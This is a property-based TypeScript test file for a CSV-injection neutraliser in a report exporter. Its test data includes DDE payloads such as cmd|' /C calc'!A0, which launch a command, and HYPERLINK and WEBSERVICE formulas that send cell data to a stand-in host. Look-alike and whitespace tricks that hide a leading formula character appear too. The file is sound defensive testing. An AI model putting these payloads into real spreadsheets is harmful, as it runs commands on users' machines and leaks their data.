/**
 * Issue 16 item 7: formula neutralisation per OWASP's CSV injection guidance, including what a
 * spreadsheet sees once it trims a cell (LibreOffice's "trim spaces" import) or folds look-alike
 * characters. The oracle: the cell's NFKC form, with leading white space, control and format
 * characters dropped, starts with = + - @; or the cell starts with TAB, CR or LF. Such a cell must
 * come out with a leading apostrophe unless it is a plain number; every other cell unchanged.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeCell } from '../../src/report/neutralize.js';

const RUNS = Number(process.env.PROPERTY_RUNS ?? 60) * 10;

function oracleFormula(value: string): boolean {
  if (/^[\t\r\n]/.test(value)) return true;
  const trimmed = value.normalize('NFKC').replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
  return /^[=+\-@]/.test(trimmed);
}

function oraclePlainNumber(value: string): boolean {
  if (/^[\t\r\n]/.test(value)) return false;
  return /^[+-]?\d+(?:[.,]\d+)?$/.test(value.normalize('NFKC').replace(/^[\s\p{Cc}\p{Cf}]+|[\s\p{Cc}\p{Cf}]+$/gu, ''));
}

/** What hides a formula from a check of the first character, as the issue found and more. */
const LEADING = fc.constantFrom(' ', '  ', '\u00a0', '\u3000', '\u2003', '\u202f', '\u200b', '\ufeff', '\u200e', '\u2028', '\t', '\r', '\n', '\r\n', ' \t', '\u000b', '\u0000');
const FORMULA_CHAR = fc.constantFrom('=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b', '\u207a', '\u208a', '\u207c');
const PAYLOAD = fc.constantFrom(
  '1+1',
  'HYPERLINK("http://x.example/?"&A1,"klik")',
  "cmd|' /C calc'!A0",
  "SUM(1+1)*cmd|' /C calc'!A0",
  'WEBSERVICE("http://x.example/")',
  'A1',
  '',
);

describe('neutralizeCell (OWASP CSV injection)', () => {
  it('prefixes every probe of the issue: leading spaces, LF, NBSP, full-width look-alikes, DDE', () => {
    for (const v of [
      '  =1+1',
      '\u00a0=1+1',
      '\n=1+1',
      ' \n=1+1',
      '\uff1d1+1',
      '\uff0bSUM(1)',
      '\uff0dA1',
      '\uff20SUM(1)',
      '\u3000=HYPERLINK("http://x.example")',
      '\u200b=1+1',
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+thespanishinquisition(cmd|'/c calc.exe'!A",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\n',
      '\t5',
      ' -A1',
      '\u2212A1',
    ]) {
      expect(neutralizeCell(v), JSON.stringify(v)).toBe(`'${v}`);
    }
  });

  it('leaves plain numbers and ordinary text as they are', () => {
    for (const v of ['-5', '+6281234567890', '3,5', '-0.25', ' -5', '\u00a0+62812', '\uff0b\uff16\uff12\uff18\uff11\uff12', 'SITI', '', '3275084507850001', "MA'RUF", ' SITI', '\u00a0BUDI', 'Ö', 'a=b', "'=1+1"]) {
      expect(neutralizeCell(v), JSON.stringify(v)).toBe(v);
    }
  });

  it('prefixes any cell whose trimmed NFKC form starts with a formula character (property)', () => {
    fc.assert(
      fc.property(fc.array(LEADING, { maxLength: 3 }), FORMULA_CHAR, PAYLOAD, fc.string({ maxLength: 6 }), (lead, f, payload, tail) => {
        const v = lead.join('') + f + payload + tail;
        expect(oracleFormula(v)).toBe(true);
        expect(neutralizeCell(v), JSON.stringify(v)).toBe(oraclePlainNumber(v) ? v : `'${v}`);
      }),
      { numRuns: RUNS },
    );
  });

  it('agrees with the oracle on any string: formula prefixed, plain numbers and the rest unchanged (property)', () => {
    const anyText = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.tuple(fc.array(LEADING, { maxLength: 2 }), fc.string({ maxLength: 8 })).map(([l, s]) => l.join('') + s),
    );
    fc.assert(
      fc.property(anyText, (v) => {
        const out = neutralizeCell(v);
        // Only ever the value or the value with one apostrophe in front.
        expect([v, `'${v}`]).toContain(out);
        if (oracleFormula(v) && !oraclePlainNumber(v)) expect(out, JSON.stringify(v)).toBe(`'${v}`);
        if (oraclePlainNumber(v)) expect(out, JSON.stringify(v)).toBe(v);
        // A first visible character that is a letter, a digit, a quote or a bracket is never touched.
        if (/^[\p{L}\p{N}'"([]/u.test(v.normalize('NFKC')) && !/^[\p{Cc}\p{Cf}\s]/u.test(v)) expect(out).toBe(v);
      }),
      { numRuns: RUNS },
    );
  });

  it('leaves numbers of any sign and size unchanged (property)', () => {
    const number = fc.tuple(fc.constantFrom('', '+', '-'), fc.bigInt({ min: 0n, max: 10n ** 20n }), fc.option(fc.tuple(fc.constantFrom('.', ','), fc.nat())));
    fc.assert(
      fc.property(number, ([sign, n, frac]) => {
        const v = `${sign}${n}${frac ? `${frac[0]}${frac[1]}` : ''}`;
        expect(neutralizeCell(v)).toBe(v);
      }),
      { numRuns: RUNS },
    );
  });
});
